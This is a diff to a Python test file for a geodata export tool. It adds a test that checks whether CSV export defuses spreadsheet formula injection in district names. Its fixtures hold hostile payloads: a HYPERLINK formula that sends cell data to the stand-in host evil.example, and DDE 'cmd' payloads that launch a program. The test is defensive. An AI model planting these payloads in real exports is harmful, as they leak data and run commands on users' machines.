@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import re
@@ -17,7 +18,7 @@ from figures import charts
 from figures.export import attribution_header, export, export_formats
 from geodata import StoreError, loaders
 from geodata.indicators import BY_ID
-from tests.helpers.mirror import fast_settings, needs_mirror
+from tests.helpers.mirror import fast_settings, needs_mirror, renamed_store
 
 pytestmark = needs_mirror
 
@@ -116,6 +117,37 @@ def test_bevoelkerung_csv_is_the_tidy_table(settings: geodata.Settings) -> None:
     rows = frame[(frame["year"] == 2023) & (frame["indicator"] == "einwohnerzahl")]
     assert len(rows) == 21
     assert rows["value"].sum() == 211692
+
+
+FORMULAS = {"A": '=HYPERLINK("http://evil.example/?leak="&A1,"Warnemünde")',
+            "B": "+SUM(1+1)*cmd|' /C calc'!A0", "C": "-2+3+cmd|' /C calc'!A0",
+            "D": "@SUM(1+1)"}
+
+
+def _csv_rows(content: bytes, sep: str = ",") -> list[list[str]]:
+    """The cells as a spreadsheet reads them (quotes removed, nothing else changed)."""
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""),
+                           delimiter=sep))
+
+
+def test_csv_cells_from_the_data_cannot_run_as_formulas(
+        tmp_path: Path, good_store: Path) -> None:
+    """District names that a spreadsheet would run (OWASP's list: = + - @, tab and CR, which
+    validation already strips from names) come out with a leading apostrophe; negative
+    numbers in numeric columns stay numbers."""
+    store = renamed_store(tmp_path / "data", good_store, FORMULAS)
+    settings = fast_settings(store, None)
+    rows = _csv_rows(export("stadtbereiche", "csv", settings)[0])
+    code, name = rows[0].index("code"), rows[0].index("bezeichnung")
+    names = {row[code]: row[name] for row in rows[1:]}
+    for code, formula in FORMULAS.items():
+        assert names[code] == "'" + formula, code
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    # The population table has negative values (migration balance): still plain numbers.
+    tidy = _csv_rows(export("bevoelkerung", "csv", settings)[0])
+    negative = [row[-1] for row in tidy[1:] if row[-1].startswith("-")]
+    assert negative and all(float(v) < 0 for v in negative)
 
 
 def test_file_name_carries_the_data_date_not_today(store_copy: Path) -> None:
